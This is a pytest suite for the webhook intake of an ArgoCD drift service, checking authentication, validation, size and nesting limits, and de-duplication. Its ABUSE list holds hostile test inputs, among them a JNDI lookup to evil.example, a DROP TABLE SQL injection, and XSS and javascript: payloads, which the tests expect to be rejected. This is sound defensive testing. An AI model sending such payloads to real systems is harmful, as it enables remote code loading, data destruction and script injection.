"""Intake: authentication, validation, size limit and de-duplication; nothing is stored on an error."""

from __future__ import annotations

import asyncio
import base64
import json
from pathlib import Path

import httpx
import pytest
from pydantic import SecretStr

from agents.drift.app import create_app
from agents.drift.config import ArgoCDConfig, DriftConfig
from agents.drift.metrics import DriftMetrics
from agents.drift.store import EventStore
from protocol.models import ArgoNotification, Decision, DecisionState

WEBHOOK = "/v1/webhooks/argocd"
TOKEN = "hook-token"
APPROVALS = "approvals-token"
BODY = {"app": "payments-api", "appNamespace": "argocd", "project": "prod", "revision": "5f2c1e9"}


def make_config(tmp_path: Path, **over: object) -> DriftConfig:
    base = dict(
        state_dir=tmp_path, private_key_path=tmp_path / "k", trust_store_path=tmp_path / "t",
        argocd=ArgoCDConfig(url="http://127.0.0.1:1"), approvals_token=SecretStr(APPROVALS),
        webhook_token=SecretStr(TOKEN), webhook_basic_user="argocd", webhook_basic_password=SecretStr("pw"),
        max_body_bytes=2048,
    )
    base.update(over)
    return DriftConfig(**base)


@pytest.fixture
async def env(tmp_path: Path):
    config = make_config(tmp_path)
    store = EventStore(config.db_path)
    await store.open()
    accepted: list[Decision] = []

    async def on_accepted(d: Decision) -> None:
        accepted.append(d)

    app = create_app(config, store, DriftMetrics(), on_accepted)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://drift") as client:
        yield client, store, accepted
    await store.close()


def bearer(token: str = TOKEN) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


async def test_accepts_persists_and_answers_202_with_event_id(env) -> None:
    client, store, accepted = env
    r = await client.post(WEBHOOK, json=BODY, headers=bearer())
    assert r.status_code == 202, r.text
    body = r.json()
    assert body["duplicate"] is False and body["state"] == "received"
    stored = await store.get(body["event_id"])
    assert stored is not None and stored.event.idempotency_key == "argocd/payments-api"
    assert stored.event.notification.project == "prod"
    assert [d.event.event_id for d in accepted] == [body["event_id"]]


async def test_basic_auth_is_accepted(env) -> None:
    client, store, _ = env
    basic = base64.b64encode(b"argocd:pw").decode()
    r = await client.post(WEBHOOK, json=BODY, headers={"Authorization": f"Basic {basic}"})
    assert r.status_code == 202, r.text
    assert await store.count() == 1


@pytest.mark.parametrize(
    "headers",
    [{}, {"Authorization": "Bearer nope"}, {"Authorization": "Basic " + base64.b64encode(b"argocd:bad").decode()},
     {"Authorization": "Basic !!!"}, {"Authorization": TOKEN}],
    ids=["missing", "wrong-bearer", "wrong-basic", "garbage-basic", "no-scheme"],
)
async def test_bad_credentials_are_401_and_nothing_stored(env, headers: dict[str, str]) -> None:
    client, store, accepted = env
    r = await client.post(WEBHOOK, json=BODY, headers=headers)
    assert r.status_code == 401
    assert await store.count() == 0 and accepted == []


@pytest.mark.parametrize(
    ("body", "status", "field"),
    [
        ({"appNamespace": "argocd", "project": "prod"}, 422, "app"),
        ({**BODY, "app": "Not_A_Name"}, 422, "app"),
        ({**BODY, "unexpected": 1}, 422, "unexpected"),
        ({"app": "x"}, 422, "project"),
    ],
)
async def test_invalid_body_names_the_field_and_nothing_stored(env, body, status, field) -> None:
    client, store, accepted = env
    r = await client.post(WEBHOOK, json=body, headers=bearer())
    assert r.status_code == status, r.text
    assert r.json()["field"] == field and field in r.json()["error"]
    assert await store.count() == 0 and accepted == []


@pytest.mark.parametrize("raw", [b"{not json", b"[1, 2]", b"\xff\xfe"])
async def test_non_json_or_non_object_is_400(env, raw: bytes) -> None:
    client, store, _ = env
    r = await client.post(WEBHOOK, content=raw, headers={**bearer(), "Content-Type": "application/json"})
    assert r.status_code == 400
    assert await store.count() == 0


async def test_oversized_body_is_413_and_nothing_stored(env) -> None:
    client, store, _ = env
    big = {**BODY, "argocdUrl": "x" * 4000}
    r = await client.post(WEBHOOK, json=big, headers=bearer())
    assert r.status_code == 413
    # Without a Content-Length (chunked), the stream is cut at the limit too.

    async def chunks():
        yield json.dumps(big).encode()

    r = await client.post(WEBHOOK, content=chunks(), headers=bearer())
    assert r.status_code == 413
    assert await store.count() == 0


async def test_same_application_while_open_joins_the_decision(env) -> None:
    client, store, accepted = env
    results = await asyncio.gather(*(client.post(WEBHOOK, json=BODY, headers=bearer()) for _ in range(5)))
    assert all(r.status_code == 202 for r in results)
    ids = {r.json()["event_id"] for r in results}
    assert len(ids) == 1
    assert sorted(r.json()["duplicate"] for r in results) == [False, True, True, True, True]
    assert await store.count() == 1 and len(accepted) == 1
    other = await client.post(WEBHOOK, json={**BODY, "app": "catalog"}, headers=bearer())
    assert other.json()["duplicate"] is False and other.json()["event_id"] not in ids


async def test_awaiting_approval_is_open_and_joins_the_same_revision(env) -> None:
    client, store, accepted = env
    first = (await client.post(WEBHOOK, json=BODY, headers=bearer())).json()["event_id"]
    decision = await store.get(first)
    assert decision is not None
    await store.save(decision.model_copy(update={"state": DecisionState.AWAITING_APPROVAL}))
    again = (await client.post(WEBHOOK, json=BODY, headers=bearer())).json()
    assert again == {"event_id": first, "state": "awaiting_approval", "duplicate": True}
    other_revision = (await client.post(WEBHOOK, json={**BODY, "revision": "9d1f7c2"}, headers=bearer())).json()
    assert other_revision["duplicate"] is False and other_revision["event_id"] != first
    assert len(accepted) == 2


async def test_a_closed_decision_is_not_joined_at_intake(env) -> None:
    client, store, accepted = env
    first = (await client.post(WEBHOOK, json=BODY, headers=bearer())).json()["event_id"]
    decision = await store.get(first)
    assert decision is not None
    await store.save(decision.model_copy(update={"state": DecisionState.DONE}))  # enforced: nothing pending
    second = (await client.post(WEBHOOK, json=BODY, headers=bearer())).json()
    # admission (tests/drift/test_open_decisions.py) reads the drift and joins it if it is the same
    assert second["duplicate"] is False and second["event_id"] != first and len(accepted) == 2


ABUSE = [
    ({**BODY, "revision": "5f2c\x00e9"}, "revision"),
    ({**BODY, "project": "prod\u202e"}, "project"),
    ({**BODY, "appNamespace": "argocd\u200f"}, "appNamespace"),
    ({**BODY, "revision": "${jndi:ldap://evil.example/a}"}, "revision"),
    ({**BODY, "project": "prod'; DROP TABLE drift_decisions; --"}, "project"),
    ({**BODY, "app": "payments-api\n"}, "app"),
    ({**BODY, "app": "x" * 254}, "app"),
    ({**BODY, "appNamespace": "Argo_CD"}, "appNamespace"),
    ({**BODY, "revision": "main..evil"}, "revision"),
    ({**BODY, "revision": "refs/heads/x.lock"}, "revision"),
    ({**BODY, "syncStatus": "Deleted"}, "syncStatus"),
    ({**BODY, "healthStatus": "<script>"}, "healthStatus"),
    ({**BODY, "argocdUrl": "javascript:alert(1)"}, "argocdUrl"),
    ({**BODY, "argocdUrl": "https://argocd\u202e.example"}, "argocdUrl"),
    ({**BODY, "event": "on drift"}, "event"),
    ({**BODY, "project": 7}, "project"),
    ({**BODY, "app": None}, "app"),
    ({**BODY, "revision": ["a"]}, "revision"),
]


@pytest.mark.parametrize(("body", "field"), ABUSE)
async def test_hostile_field_values_are_422_naming_the_field_and_nothing_stored(env, body, field) -> None:
    client, store, accepted = env
    raw = json.dumps(body).replace("\\\\", "\\")  # keep the JSON escapes (NUL, bidi) as escapes
    r = await client.post(WEBHOOK, content=raw, headers={**bearer(), "Content-Type": "application/json"})
    assert r.status_code == 422, r.text
    assert r.json()["field"] == field and f"`{field}`" in r.json()["error"]
    assert r.text.isascii()  # whatever came in is escaped in the answer
    assert await store.count() == 0 and accepted == []


async def test_unpaired_surrogates_are_400_and_unknown_names_come_back_escaped(env) -> None:
    client, store, _ = env
    for raw in ('{"app": "a", "project": "p", "\\ud800\\u202e": 1}', '{"app": "a\\udfff", "project": "p"}'):
        r = await client.post(WEBHOOK, content=raw, headers={**bearer(), "Content-Type": "application/json"})
        assert r.status_code == 400 and "surrogate" in r.json()["error"], r.text
    r = await client.post(WEBHOOK, json={**BODY, "x\u202e\n": 1}, headers=bearer())
    assert r.status_code == 422 and r.json()["field"] == "x\\u202e\\n"
    assert await store.count() == 0


async def test_only_a_body_declared_json_is_read(env) -> None:
    client, store, _ = env
    for content_type in (None, "text/plain", "application/x-www-form-urlencoded", "application/json; charset=latin-1",
                         "multipart/form-data"):
        headers = bearer() if content_type is None else {**bearer(), "Content-Type": content_type}
        r = await client.post(WEBHOOK, content=json.dumps(BODY), headers=headers)
        assert r.status_code == 415 and "Content-Type" in r.json()["error"], content_type
    assert await store.count() == 0
    for content_type in ("application/json; charset=utf-8", "application/merge+json"):
        r = await client.post(WEBHOOK, content=json.dumps(BODY), headers={**bearer(), "Content-Type": content_type})
        assert r.status_code == 202, (content_type, r.text)


async def test_deep_nesting_is_400_before_parsing(env) -> None:
    client, store, _ = env
    for raw in (b"[" * 1000 + b"]" * 1000, b'{"a":' * 300 + b"1" + b"}" * 300, b"[" * 2000,
                b'{"app": "a", "project": "p", "x": ' + b"[" * 300 + b"]" * 300 + b"}"):
        r = await client.post(WEBHOOK, content=raw, headers={**bearer(), "Content-Type": "application/json"})
        assert r.status_code == 400 and "nests deeper" in r.json()["error"], raw[:40]
    assert await store.count() == 0


async def test_4kb_of_2000_levels_is_a_4xx_under_the_default_body_limit(tmp_path: Path) -> None:
    config = make_config(tmp_path, max_body_bytes=DriftConfig.model_fields["max_body_bytes"].default)
    store = EventStore(config.db_path)
    await store.open()

    async def on_accepted(d: Decision) -> None:
        raise AssertionError("nothing may be accepted")

    app = create_app(config, store, DriftMetrics(), on_accepted)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://drift") as client:
        for raw in (b"[" * 2000 + b"]" * 2000, b"{" * 4000, b'{"a":' * 800 + b"{}" + b"}" * 800):
            r = await client.post(WEBHOOK, content=raw, headers={**bearer(), "Content-Type": "application/json"})
            assert r.status_code == 400, (len(raw), r.status_code)
    await store.close()


async def test_brackets_inside_strings_are_not_nesting(env) -> None:
    client, _, _ = env
    body = {**BODY, "revision": '[{' * 40 + '\\"'}
    r = await client.post(WEBHOOK, json=body, headers=bearer())
    assert r.status_code == 422 and r.json()["field"] == "revision"  # parsed: the revision itself is refused


async def test_decisions_api_needs_the_approvals_token_and_filters(env) -> None:
    client, _, _ = env
    eid = (await client.post(WEBHOOK, json=BODY, headers=bearer())).json()["event_id"]
    await client.post(WEBHOOK, json={**BODY, "app": "catalog"}, headers=bearer())
    assert (await client.get("/v1/decisions")).status_code == 401
    assert (await client.get(f"/v1/decisions/{eid}", headers=bearer())).status_code == 401
    one = await client.get(f"/v1/decisions/{eid}", headers=bearer(APPROVALS))
    assert one.status_code == 200
    assert Decision.model_validate(one.json()).event.event_id == eid
    listed = await client.get("/v1/decisions", params={"application": "payments-api"}, headers=bearer(APPROVALS))
    assert [d["event"]["event_id"] for d in listed.json()["decisions"]] == [eid]
    by_state = await client.get("/v1/decisions", params={"state": "done"}, headers=bearer(APPROVALS))
    assert by_state.json()["decisions"] == []
    assert (await client.get("/v1/decisions", params={"state": "nope"}, headers=bearer(APPROVALS))).status_code == 400
    assert (await client.get("/v1/decisions/unknown", headers=bearer(APPROVALS))).status_code == 404


async def test_health_and_metrics_are_public(env) -> None:
    client, _, _ = env
    await client.post(WEBHOOK, json=BODY, headers=bearer())
    assert (await client.get("/healthz")).json()["ok"] is True
    document = (await client.get("/openapi.json")).json()
    assert set(document["paths"]) == {"/v1/webhooks/argocd", "/v1/decisions", "/v1/decisions/{event_id}",
                                      "/v1/decisions/{event_id}/approve", "/v1/decisions/{event_id}/reject",
                                      "/v1/report"}
    # the schemas are the models': a field added to ArgoNotification shows up in the published API
    published = document["components"]["schemas"]["ArgoNotification"]
    assert published["properties"] == ArgoNotification.model_json_schema(by_alias=True)["properties"]
    assert published["additionalProperties"] is False
    text = (await client.get("/metrics")).text
    assert 'driftwise_webhooks_total{outcome="202"} 1.0' in text
